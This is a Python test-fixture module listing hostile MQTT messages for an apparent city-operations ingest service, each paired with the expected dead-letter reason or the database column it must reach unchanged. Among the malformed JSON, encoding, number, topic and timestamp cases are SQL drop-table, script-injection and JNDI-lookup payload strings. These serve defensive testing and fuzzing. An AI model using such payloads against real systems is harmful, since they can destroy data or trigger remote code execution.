"""Hostile MQTT messages, each with what cityops must do with it (docs/mqtt.md).

A case is a topic under the prefix and a payload (bytes, or built at run time for the big
ones), and either the dead-letter reason it must get or, for text that is valid however
nasty, the column where it must land exactly as sent. ``{ts}`` in a payload is replaced by
the test's "now"; ``{past}`` by a time a few minutes earlier.

Shared by tests/unit/ingest/test_hostile_payloads.py (SQLite and PostgreSQL) and the
fuzz harness's seed corpus (tools/fuzz_ingest.py).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

SQL = "'); DROP TABLE observations; --"
SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
TEMPLATE = "{{7*7}} ${jndi:ldap://x/a} %s%n"
#: Injection in every shape one text field could carry, within every field's length limit.
INJECTIONS = {"sql": SQL, "script": SCRIPT, "template": TEMPLATE}

METER = '{"type": "air_quality", "lon": 106.6333, "lat": 30.4560'
TICKET = '"ts": "{ts}", "channel": "phone", "category": "市政", "title": "路灯不亮", "content": "x"'


@dataclass(frozen=True)
class Stored:
    """Where a valid message's text must land: the row of ``table`` whose ``key`` column is
    ``key_value`` has ``column`` == ``expected`` (for JSON columns: the decoded value)."""

    table: str
    key: str
    key_value: str
    column: str
    expected: Any


@dataclass(frozen=True)
class HostileCase:
    name: str
    topic: str
    payload: bytes | Callable[[], bytes]
    #: the dead-letter reason, or None when the message must be stored
    reason: str | None = None
    stored: Stored | None = None
    #: words the dead letter's detail must contain (a clear reason, not only a code)
    detail: str = ""

    def body(self, ts: str, past: str) -> bytes:
        raw = self.payload() if callable(self.payload) else self.payload
        return raw.replace(b"{ts}", ts.encode()).replace(b"{past}", past.encode())


def _j(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


def _nested(depth: int) -> bytes:
    return b'{"ts": "{ts}", "metrics": {"pm25": ' + b"[" * depth + b"]" * depth + b"}}"


def _obs(value: str) -> bytes:
    return ('{"ts": "{ts}", "metrics": {"pm25": ' + value + "}}").encode()


def _cases() -> list[HostileCase]:
    cases = [
        # ---- structure -------------------------------------------------------------------
        HostileCase("nested_100k", "sensors/air-1/obs", lambda: _nested(30_000), "invalid_json"),
        HostileCase("nested_in_limit", "sensors/air-1/obs", lambda: _nested(50), "schema"),
        HostileCase("10MB", "sensors/air-1/obs", lambda: b'{"x": "' + b"a" * 10_000_000 + b'"}', "too_large"),
        HostileCase("10MB_nested", "sensors/air-1/meta", lambda: b"[" * 10_000_000, "too_large"),
        HostileCase("empty", "sensors/air-1/obs", b"", "invalid_json"),
        HostileCase("array", "sensors/air-1/obs", b"[1, 2]", "invalid_json", detail="JSON object"),
        HostileCase("string", "sensors/air-1/obs", b'"hello"', "invalid_json"),
        HostileCase("null", "sensors/air-1/obs", b"null", "invalid_json"),
        HostileCase("two_objects", "sensors/air-1/obs", b"{}{}", "invalid_json"),
        HostileCase("bom", "sensors/air-1/obs", b"\xef\xbb\xbf" + _obs("1"), "invalid_json"),
        # ---- encoding ----------------------------------------------------------------------
        HostileCase("latin1", "sensors/air-1/obs", b'{"ts": "\xe9t\xe9"}', "invalid_utf8"),
        HostileCase("overlong_slash", "sensors/air-1/obs", b'{"a": "\xc0\xaf"}', "invalid_utf8"),
        HostileCase("encoded_surrogate", "sensors/air-1/obs", b'{"a": "\xed\xa0\x80"}', "invalid_utf8"),
        HostileCase("truncated_utf8", "sensors/air-1/obs", b'{"a": "\xe5\xb9"}', "invalid_utf8"),
        HostileCase(
            "escaped_lone_surrogate",
            "hotline/tickets",
            b'{"ticket_id": "T-S", ' + TICKET.replace('"x"', '"a\\ud800b"').encode() + b"}",
            "schema",
        ),
        HostileCase(
            "nul_in_title",
            "hotline/tickets",
            b'{"ticket_id": "T-N", ' + TICKET.replace('"x"', '"a\\u0000b"').encode() + b"}",
            "schema",
            detail="NUL",
        ),
        HostileCase(
            "nul_in_name", "sensors/air-9/meta", (METER + ', "name": "a\\u0000"}').encode(), "schema"
        ),
        HostileCase(
            "nul_in_props_key",
            "sensors/air-9/meta",
            (METER + ', "props": {"z\\u0000": 1}}').encode(),
            "schema",
        ),
        # ---- numbers -------------------------------------------------------------------------
        HostileCase("nan", "sensors/air-1/obs", _obs("NaN"), "invalid_json", detail="NaN"),
        HostileCase("infinity", "sensors/air-1/obs", _obs("Infinity"), "invalid_json"),
        HostileCase("minus_infinity", "sensors/air-1/obs", _obs("-Infinity"), "invalid_json"),
        HostileCase("1e309", "sensors/air-1/obs", _obs("1e309"), "schema", detail="finite"),
        HostileCase("-1e309", "sensors/air-1/obs", _obs("-1e309"), "schema", detail="finite"),
        HostileCase("1e308", "sensors/air-1/obs", _obs("1e308"), "out_of_range"),
        HostileCase("2**64", "sensors/air-1/obs", _obs(str(2**64)), "out_of_range"),
        HostileCase("-(2**64)", "sensors/air-1/obs", _obs(str(-(2**64))), "negative_value"),
        HostileCase("5000_digits", "sensors/air-1/obs", _obs("9" * 5000), "invalid_json"),
        HostileCase("string_number", "sensors/air-1/obs", _obs('"35"'), "schema"),
        HostileCase("bool_number", "sensors/air-1/obs", _obs("true"), "schema"),
        HostileCase(
            "lon_2**64",
            "sensors/air-9/meta",
            b'{"type": "noise", "lon": 18446744073709551616, "lat": 30}',
            "out_of_extent",
        ),
        HostileCase(
            "props_1e309",
            "sensors/air-9/meta",
            (METER + ', "props": {"k": 1e309}}').encode(),
            "schema",
            detail="finite",
        ),
        HostileCase(
            "props_2**64",
            "sensors/air-8/meta",
            (METER + f', "props": {{"k": {2**64}}}}}').encode(),
            stored=Stored("devices", "device_id", "air-8", "props", {"k": 2**64}),
        ),
        HostileCase(
            "props_deep",
            "sensors/air-7/meta",
            (METER + ', "props": {"k": ' + "[" * 200 + "]" * 200 + "}}").encode(),
            stored=Stored("devices", "device_id", "air-7", "type", "air_quality"),
        ),
        # ---- topics --------------------------------------------------------------------------
        HostileCase("topic_plus", "sensors/+/obs", _obs("1"), "unknown_topic"),
        HostileCase("topic_hash", "sensors/#", _obs("1"), "unknown_topic"),
        HostileCase("topic_space", "sensors/air 1/obs", _obs("1"), "unknown_topic"),
        HostileCase("topic_chinese", "sensors/空气站/obs", _obs("1"), "unknown_topic"),
        HostileCase("topic_dotdot", "sensors/../obs", _obs("1"), "unknown_device"),
        HostileCase("topic_long_level", "sensors/" + "a" * 300 + "/obs", _obs("1"), "unknown_topic"),
        HostileCase("topic_nul", "sensors/air-1\x00/obs", _obs("1"), "unknown_topic"),
        HostileCase("topic_newline", "sensors/air-1\n/obs", _obs("1"), "unknown_topic"),
        HostileCase("topic_empty_level", "sensors//obs", _obs("1"), "unknown_topic"),
        HostileCase("topic_long_id", "sensors/" + "a" * 65 + "/obs", _obs("1"), "unknown_topic"),
        HostileCase("topic_huge", "sensors/" + "/" * 70_000 + "obs", _obs("1"), "unknown_topic"),
        HostileCase("topic_sql", f"sensors/{SQL}/obs", _obs("1"), "unknown_topic"),
        HostileCase("topic_trailing_slash", "sensors/air-1/obs/", _obs("1"), "unknown_topic"),
        # ---- places --------------------------------------------------------------------------
        HostileCase(
            "meta_swapped",
            "sensors/air-9/meta",
            b'{"type": "air_quality", "lon": 30.456, "lat": 106.63}',
            "out_of_extent",
            detail="swapped",
        ),
        HostileCase(
            "ticket_swapped",
            "hotline/tickets",
            b'{"ticket_id": "T-W", ' + TICKET.encode() + b', "lon": 30.456, "lat": 106.63}',
            "out_of_extent",
            detail="swapped",
        ),
        HostileCase(
            "video_swapped",
            "video/cam-1/events",
            b'{"event_id": "v-w", "ts": "{ts}", "type": "smoke_fire", "confidence": 0.9,'
            b' "lon": 30.456, "lat": 106.63}',
            "out_of_extent",
            detail="swapped",
        ),
        HostileCase(
            "meta_null_island",
            "sensors/air-9/meta",
            b'{"type": "noise", "lon": 0, "lat": 0}',
            "out_of_extent",
        ),
        # ---- times ---------------------------------------------------------------------------
        HostileCase(
            "ts_1970",
            "sensors/air-1/obs",
            b'{"ts": "1970-01-01T00:00:00Z", "metrics": {"pm25": 1}}',
            "ts_past",
        ),
        HostileCase(
            "ts_2100",
            "sensors/air-1/obs",
            b'{"ts": "2100-01-01T00:00:00+08:00", "metrics": {"pm25": 1}}',
            "ts_future",
        ),
        HostileCase(
            "ts_year_1",
            "sensors/air-1/obs",
            b'{"ts": "0001-01-01T00:00:00+00:00", "metrics": {"pm25": 1}}',
            "ts_past",
        ),
        HostileCase(
            "ts_9999",
            "sensors/air-1/obs",
            b'{"ts": "9999-12-31T23:59:59+00:00", "metrics": {"pm25": 1}}',
            "ts_future",
        ),
        HostileCase(
            "ts_naive",
            "sensors/air-1/obs",
            b'{"ts": "2026-07-15T10:00:00", "metrics": {"pm25": 1}}',
            "schema",
        ),
        HostileCase(
            "ts_offset_25h",
            "sensors/air-1/obs",
            b'{"ts": "2026-07-15T10:00:00+25:00", "metrics": {"pm25": 1}}',
            "schema",
        ),
        HostileCase(
            "ts_epoch_number", "sensors/air-1/obs", b'{"ts": 1784000000, "metrics": {"pm25": 1}}', "schema"
        ),
        HostileCase(
            "ticket_2100",
            "hotline/tickets",
            b'{"ticket_id": "T-F", ' + TICKET.replace("{ts}", "2100-01-01T00:00:00Z").encode() + b"}",
            "ts_future",
        ),
        HostileCase(
            "video_1970",
            "video/cam-1/events",
            b'{"event_id": "v-p", "ts": "1970-01-01T00:00:00Z", "type": "smoke_fire", "confidence": 0.9}',
            "ts_past",
        ),
        # ---- injection in fields that are ids (refused) ------------------------------------
        HostileCase(
            "metric_key_sql", "sensors/air-1/obs", _j({"ts": "{ts}", "metrics": {SQL: 1}}), "unknown_metric"
        ),
        HostileCase(
            "msg_id_sql",
            "sensors/air-1/obs",
            _j({"ts": "{ts}", "metrics": {"pm25": 1}, "msg_id": SQL}),
            "schema",
        ),
        HostileCase(
            "event_id_script",
            "video/cam-1/events",
            _j({"event_id": SCRIPT, "ts": "{ts}", "type": "smoke_fire", "confidence": 0.5}),
            "schema",
        ),
        HostileCase(
            "ticket_id_sql",
            "hotline/tickets",
            _j(
                {
                    "ticket_id": SQL,
                    "ts": "{ts}",
                    "channel": "phone",
                    "category": "c",
                    "title": "t",
                    "content": "",
                }
            ),
            "schema",
        ),
        HostileCase(
            "type_sql", "sensors/air-9/meta", _j({"type": SQL, "lon": 106.63, "lat": 30.456}), "schema"
        ),
        HostileCase(
            "extra_field", "sensors/air-1/obs", _j({"ts": "{ts}", "metrics": {"pm25": 1}, SQL: 1}), "schema"
        ),
    ]
    # ---- injection in free text (stored verbatim, never executed) ---------------------------
    for kind, text in INJECTIONS.items():
        cases += [
            HostileCase(
                f"meta_name_{kind}",
                f"sensors/inj-{kind}/meta",
                _j({"type": "air_quality", "lon": 106.6333, "lat": 30.456, "name": text}),
                stored=Stored("devices", "device_id", f"inj-{kind}", "name", text),
            ),
            HostileCase(
                f"meta_props_{kind}",
                f"sensors/inp-{kind}/meta",
                _j({"type": "noise", "lon": 106.6333, "lat": 30.456, "props": {text: text, "zone": [text]}}),
                stored=Stored("devices", "device_id", f"inp-{kind}", "props", {text: text, "zone": [text]}),
            ),
            HostileCase(
                f"video_snapshot_{kind}",
                "video/cam-1/events",
                _j(
                    {
                        "event_id": f"v-{kind}",
                        "ts": "{ts}",
                        "type": "smoke_fire",
                        "confidence": 0.5,
                        "snapshot_url": text,
                    }
                ),
                stored=Stored("video_events", "event_id", f"v-{kind}", "snapshot_url", text),
            ),
        ]
        for column, field, limit in (
            ("category", "category", 50),
            ("title", "title", 200),
            ("content", "content", 4000),
            ("address", "address", 200),
            ("caller_name", "name", 64),
            ("caller_phone", "phone", 32),
        ):
            body: dict[str, Any] = {
                "ticket_id": f"T-{kind}-{field}",
                "ts": "{ts}",
                "channel": "web",
                "category": "市政",
                "title": "t",
                "content": "c",
            }
            value = text[:limit]
            if column.startswith("caller_"):
                body["caller"] = {field: value}
            else:
                body[field] = value
            cases.append(
                HostileCase(
                    f"ticket_{field}_{kind}",
                    "hotline/tickets",
                    _j(body),
                    stored=Stored("hotline_tickets", "ticket_id", f"T-{kind}-{field}", column, value),
                )
            )
        cases.append(
            HostileCase(
                f"ticket_event_{kind}",
                "hotline/tickets/T-OPEN/events",
                _j(
                    {
                        "event_id": f"e-{kind}",
                        "ts": "{ts}",
                        "action": "dispatched",
                        "department": text[:64],
                        "note": text,
                        "actor": text[:48],
                    }
                ),
                stored=Stored("ticket_events", "event_id", f"e-{kind}", "note", text),
            )
        )
    return cases


CASES: list[HostileCase] = _cases()
#: What a ticket event case needs first: the work order it acts on.
OPEN_TICKET = (
    "hotline/tickets",
    _j(
        {
            "ticket_id": "T-OPEN",
            "ts": "{past}",
            "channel": "phone",
            "category": "市政",
            "title": "t",
            "content": "c",
        }
    ),
)
#: The camera video cases refer to.
CAMERA = ("video/cam-1/meta", b'{"type": "camera", "lon": 106.6333, "lat": 30.456}')
